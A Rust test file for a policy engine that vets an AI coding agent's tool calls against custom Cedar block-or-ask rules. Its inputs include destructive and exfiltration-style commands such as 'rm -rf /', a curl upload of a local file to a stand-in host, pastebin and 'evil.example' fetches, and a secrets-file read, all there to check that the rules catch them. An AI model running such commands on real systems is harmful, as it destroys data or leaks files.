use airlock_engine::{
    Action, AnnotationInfo, Enforcement, Engine, FingerprintKey, Host, HostFacts, Operation,
    Policy, PolicyConfig, Provenance, SessionState, Verdict,
};

use super::*;
use crate::pipeline;

const HOME: &str = "/home/u";
const SHOP: &str = "/home/u/work/shop";

fn engine_with(enforcement: Enforcement) -> Engine {
    let facts = HostFacts {
        home: Some(HOME.into()),
        ..HostFacts::default()
    };
    let cfg = PolicyConfig {
        enforcement,
        ..PolicyConfig::default()
    };
    let policy = Policy::compile(&cfg, &facts).unwrap();
    Engine::new(policy, FingerprintKey::new([7; 32])).unwrap()
}

fn engine() -> Engine {
    engine_with(Enforcement::Enforce)
}

fn rules(files: &[(&str, &str)]) -> CustomRules {
    let sources: Vec<(String, String)> = files
        .iter()
        .map(|(n, t)| ((*n).to_owned(), (*t).to_owned()))
        .collect();
    CustomRules::from_sources(&sources)
}

fn example(name: &str) -> (String, String) {
    let path = format!(
        "{}/../rules/examples/{name}.cedar",
        env!("CARGO_MANIFEST_DIR")
    );
    let text = std::fs::read_to_string(&path).unwrap();
    (format!("{name}.cedar"), text)
}

fn action(tool: &str, op: Operation) -> Action {
    Action {
        host: Host::ClaudeCode,
        tool: tool.to_owned(),
        op,
        cwd: Some(SHOP.to_owned()),
        provenance: Provenance::User,
        session_id: Some("s".to_owned()),
    }
}

fn shell(cmd: &str) -> Action {
    action(
        "Bash",
        Operation::Shell {
            command: cmd.to_owned(),
        },
    )
}

fn mcp(server: &str, tool: &str, args: serde_json::Value) -> Action {
    action(
        &format!("mcp__{server}__{tool}"),
        Operation::McpCall {
            server: server.to_owned(),
            tool: tool.to_owned(),
            arguments: args,
            annotations: AnnotationInfo::Unknown,
        },
    )
}

fn read(path: &str) -> Action {
    action(
        "Read",
        Operation::FileRead {
            path: path.to_owned(),
        },
    )
}

fn write(path: &str) -> Action {
    action(
        "Write",
        Operation::FileWrite {
            path: path.to_owned(),
            content: "x = 1\n".to_owned(),
        },
    )
}

fn fetch(url: &str) -> Action {
    action(
        "WebFetch",
        Operation::Fetch {
            url: url.to_owned(),
            is_search: false,
        },
    )
}

fn judge(custom: &CustomRules, a: &Action) -> airlock_engine::Decision {
    pipeline::judge(&engine(), custom, &[], a, &SessionState::default())
}

fn custom_codes(d: &airlock_engine::Decision) -> Vec<String> {
    d.reasons
        .iter()
        .filter(|r| r.code.starts_with(CODE_PREFIX) || r.code.starts_with("custom_"))
        .map(|r| r.code.clone())
        .collect()
}

#[test]
fn the_schema_compiles() {
    assert!(schema().is_ok(), "{:?}", schema().err());
}

/// Every example does what its comment says, through the pipeline, and its benign
/// look-alike gets nothing from it (and passes).
#[test]
fn examples_do_what_they_say() {
    let cases: Vec<(&str, Action, Verdict, Action)> = vec![
        (
            "no-mcp-delete",
            mcp(
                "github",
                "delete_repository",
                serde_json::json!({"repo": "acme/shop"}),
            ),
            Verdict::Block,
            mcp(
                "github",
                "list_deleted_items",
                serde_json::json!({"repo": "acme/shop"}),
            ),
        ),
        (
            "ask-before-send",
            mcp(
                "mail",
                "send_email",
                serde_json::json!({"to": "a@b.example"}),
            ),
            Verdict::Auth,
            mcp(
                "mail",
                "list_sent_messages",
                serde_json::json!({"limit": 10}),
            ),
        ),
        (
            "no-infra",
            write("infra/main.tf"),
            Verdict::Block,
            write("infrastructure.md"),
        ),
        (
            "no-infra",
            read("../shop/infra/secrets.tfvars"),
            Verdict::Block,
            read("infrastructure.md"),
        ),
        (
            "no-infra",
            shell("cd infra && cat variables.tf"),
            Verdict::Block,
            shell("cat docs/infra.md"),
        ),
        (
            "ask-terraform-apply",
            shell("terraform -chdir=envs/prod apply -auto-approve"),
            Verdict::Auth,
            shell("terraform plan"),
        ),
        (
            "ask-terraform-apply",
            shell("sh -c 'terraform apply'"),
            Verdict::Auth,
            shell("echo terraform apply"),
        ),
        (
            "no-pastebin",
            fetch("https://pastebin.com/raw/abc123"),
            Verdict::Block,
            fetch("https://paste.example.com/abc123"),
        ),
        (
            "no-pastebin",
            shell("curl -s https://www.pastebin.com/raw/x"),
            Verdict::Block,
            shell("curl -s https://docs.rs/serde"),
        ),
    ];
    for (name, forbidden, want, benign) in cases {
        let custom = rules(&[]);
        let ex = example(name);
        let custom_ex = CustomRules::from_sources(std::slice::from_ref(&ex));
        assert!(
            custom_ex.problems().is_empty(),
            "{name}: {:?}",
            custom_ex.problems()
        );
        let code = format!("{CODE_PREFIX}{name}");
        let d = judge(&custom_ex, &forbidden);
        assert!(
            d.verdict >= want && d.effective >= want,
            "{name}: {forbidden:?} → {d:?}"
        );
        assert!(d.codes().contains(&code.as_str()), "{name}: {d:?}");
        let r = d.reasons.iter().find(|r| r.code == code).unwrap();
        assert_eq!(r.verdict, want, "{name}");
        // The look-alike: no custom finding, and the same verdict as without the rule.
        let b = judge(&custom_ex, &benign);
        assert!(custom_codes(&b).is_empty(), "{name}: {benign:?} → {b:?}");
        assert_eq!(b, judge(&custom, &benign), "{name}");
        assert_eq!(b.effective, Verdict::Pass, "{name}: {benign:?} → {b:?}");
    }
}

#[test]
fn all_examples_load_together() {
    let all: Vec<(String, String)> = [
        "no-mcp-delete",
        "ask-before-send",
        "no-infra",
        "ask-terraform-apply",
        "no-pastebin",
    ]
    .iter()
    .map(|n| example(n))
    .collect();
    let r = CustomRules::from_sources(&all);
    assert!(r.problems().is_empty(), "{:?}", r.problems());
    assert_eq!(r.rules().count(), 5);
}

#[test]
fn permits_are_ignored_and_warned_about() {
    let r = rules(&[(
        "p.cedar",
        r#"@id("let-everything") @reason("x") permit (principal, action, resource);"#,
    )]);
    assert!(!r.invalid());
    assert_eq!(r.rules().count(), 0);
    let w = r.problems().first().unwrap();
    assert_eq!(w.severity, Severity::Warning);
    assert_eq!(w.policy.as_deref(), Some("let-everything"));
    // A permit cannot lower what the built-in rules say.
    let d = judge(&r, &shell("rm -rf /"));
    assert_eq!(d.effective, Verdict::Block);
}

#[test]
fn rules_only_raise() {
    // An AUTH rule on a call the built-in rules block leaves it blocked.
    let r = rules(&[(
        "r.cedar",
        r#"@id("ask-rm") @verdict("auth") @reason("ask") forbid (principal, action, resource is Program) when { resource.name == "rm" };"#,
    )]);
    let d = judge(&r, &shell("rm -rf /"));
    assert_eq!(d.verdict, Verdict::Block);
    assert_eq!(d.effective, Verdict::Block);
    assert!(d.codes().contains(&"custom:ask-rm"));
    // Reasons stay strongest first.
    assert_eq!(d.reasons.first().map(|r| r.verdict), Some(Verdict::Block));
}

#[test]
fn monitor_records_but_does_not_enforce() {
    let r = CustomRules::from_sources(&[example("no-mcp-delete")]);
    let e = engine_with(Enforcement::Monitor);
    let a = mcp("github", "delete_repository", serde_json::json!({}));
    let d = pipeline::judge(&e, &r, &[], &a, &SessionState::default());
    assert_eq!(d.verdict, Verdict::Block);
    assert_eq!(d.effective, Verdict::Pass);
    assert!(d.codes().contains(&"custom:no-mcp-delete"));
}

#[test]
fn a_broken_file_asks_for_every_tool_call_until_fixed() {
    let r = CustomRules::from_sources(&[
        example("no-mcp-delete"),
        (
            "broken.cedar".to_owned(),
            "@id(\"x\")\nforbid (principal, action, resource)\nwhen { context.nope == 1 };\n"
                .to_owned(),
        ),
    ]);
    assert!(r.invalid());
    let p = r
        .problems()
        .iter()
        .find(|p| p.severity == Severity::Error)
        .unwrap();
    assert_eq!(p.file, "broken.cedar");
    assert_eq!(p.policy.as_deref(), Some("x"));
    assert_eq!(p.line, Some(3), "{p}");
    // A benign call is AUTH custom_rules_invalid …
    let d = judge(&r, &shell("ls"));
    assert_eq!(d.effective, Verdict::Auth);
    assert_eq!(custom_codes(&d), vec![RULES_INVALID.to_owned()]);
    // … the valid files still apply …
    let d = judge(
        &r,
        &mcp("github", "delete_repository", serde_json::json!({})),
    );
    assert_eq!(d.effective, Verdict::Block);
    assert!(d.codes().contains(&"custom:no-mcp-delete"));
    // … and a user's own turn is not held up.
    let turn = action(
        airlock_engine::PROMPT_TOOL,
        Operation::Prompt {
            text: "please run the tests".to_owned(),
        },
    );
    let d = judge(&r, &turn);
    assert!(custom_codes(&d).is_empty(), "{d:?}");
}

#[test]
fn parse_errors_name_file_line_and_column() {
    let r = rules(&[(
        "bad.cedar",
        "// fine so far\nforbid (principal, action, resource)\nwhen { context.tainted && };\n",
    )]);
    assert!(r.invalid());
    let p = r.problems().first().unwrap();
    assert_eq!(p.file, "bad.cedar");
    assert_eq!(p.line, Some(3), "{p}");
    assert!(p.column.is_some());
    assert!(p.to_string().starts_with("bad.cedar:3:"), "{p}");
}

#[test]
fn bad_annotations_are_errors() {
    for (text, what) in [
        (
            r#"@id("a") @verdict("maybe") forbid (principal, action, resource);"#,
            "@verdict",
        ),
        (r#"@id("a b") forbid (principal, action, resource);"#, "@id"),
        (
            r#"@id("a") forbid (principal, action, resource); @id("a") forbid (principal, action, resource);"#,
            "twice",
        ),
        (
            "forbid (principal == ?principal, action, resource);",
            "templates",
        ),
    ] {
        let r = rules(&[("f.cedar", text)]);
        assert!(r.invalid(), "{text}");
        assert!(
            r.problems().iter().any(|p| p.message.contains(what)),
            "{text}: {:?}",
            r.problems()
        );
    }
}

#[test]
fn ids_must_be_unique_across_files() {
    let one =
        r#"@id("same") @reason("r") forbid (principal, action == Action::"fetch", resource);"#;
    let r = rules(&[("a.cedar", one), ("b.cedar", one)]);
    assert!(r.invalid());
    assert!(r.problems().iter().any(|p| p.file == "b.cedar"));
}

#[test]
fn a_rule_that_fails_to_evaluate_asks() {
    let r = rules(&[(
        "overflow.cedar",
        r#"@id("overflow") @reason("r") forbid (principal, action, resource) when { 9223372036854775807 + 1 > 0 };"#,
    )]);
    assert!(!r.invalid(), "{:?}", r.problems());
    let d = judge(&r, &shell("ls"));
    assert_eq!(d.effective, Verdict::Auth);
    assert_eq!(custom_codes(&d), vec![RULE_ERROR.to_owned()]);
}

#[test]
fn context_facts_are_usable() {
    let r = rules(&[(
        "ctx.cedar",
        r#"
@id("tainted-upload") @reason("A tainted session may not upload.")
forbid (principal, action, resource)
when { context.tainted && context.uploads };

@id("prod-repo") @verdict("auth") @reason("The production repository needs your approval.")
forbid (principal == Agent::"claude-code", action == Action::"mcp_call", resource)
when { context.mcp_args.contains({key: "repo", value: "acme/prod"}) };

@id("unlisted") @verdict("auth") @reason("Unlisted host.")
forbid (principal, action == Action::"fetch", resource)
when { context.unlisted_hosts.contains("evil.example") };
"#,
    )]);
    assert!(r.problems().is_empty(), "{:?}", r.problems());
    let s = SessionState {
        tainted: true,
        ..SessionState::default()
    };
    let a = shell("curl -d @notes.txt https://upload.example.org/x");
    let d = pipeline::judge(&engine(), &r, &[], &a, &s);
    assert!(d.codes().contains(&"custom:tainted-upload"), "{d:?}");
    let d = pipeline::judge(&engine(), &r, &[], &a, &SessionState::default());
    assert!(!d.codes().contains(&"custom:tainted-upload"), "{d:?}");

    let d = judge(
        &r,
        &mcp(
            "github",
            "get_issue",
            serde_json::json!({"repo": "acme/prod"}),
        ),
    );
    assert!(d.codes().contains(&"custom:prod-repo"), "{d:?}");
    let d = judge(
        &r,
        &mcp(
            "github",
            "get_issue",
            serde_json::json!({"repo": "acme/dev"}),
        ),
    );
    assert!(!d.codes().contains(&"custom:prod-repo"), "{d:?}");

    let d = judge(&r, &fetch("https://evil.example/x"));
    assert!(d.codes().contains(&"custom:unlisted"), "{d:?}");
}

#[test]
fn messages_come_from_the_rule_never_the_payload() {
    let r = CustomRules::from_sources(&[example("no-pastebin")]);
    let d = judge(&r, &fetch("https://pastebin.com/raw/SECRETPAYLOAD"));
    let reason = d
        .reasons
        .iter()
        .find(|r| r.code == "custom:no-pastebin")
        .unwrap();
    assert!(!reason.message.contains("SECRETPAYLOAD"));
    assert!(reason.message.contains("Pastebin"));
}

#[test]
fn files_are_found_and_stamped() {
    let dir = tempfile::tempdir().unwrap();
    let paths = Paths {
        level: crate::Level::User,
        db: dir.path().join("db"),
        config_dir: dir.path().to_path_buf(),
        home: None,
        socket: dir.path().join("s"),
    };
    assert!(CustomRules::load(&paths).is_empty());
    let before = stamp(&paths);
    std::fs::create_dir_all(rules_dir(&paths)).unwrap();
    let (_, text) = example("no-mcp-delete");
    std::fs::write(rules_dir(&paths).join("a.cedar"), &text).unwrap();
    std::fs::write(rules_dir(&paths).join("notes.txt"), "ignored").unwrap();
    let pack = packs_dir(&paths).join("team");
    std::fs::create_dir_all(&pack).unwrap();
    let (_, text2) = example("no-pastebin");
    std::fs::write(pack.join("b.cedar"), &text2).unwrap();
    let after = stamp(&paths);
    assert_ne!(before, after);
    let r = CustomRules::load(&paths);
    assert_eq!(r.files().len(), 2);
    assert_eq!(r.rules().count(), 2);
    // Any change to a file changes the stamp.
    std::fs::write(rules_dir(&paths).join("a.cedar"), format!("{text}\n")).unwrap();
    assert_ne!(stamp(&paths), after);
}
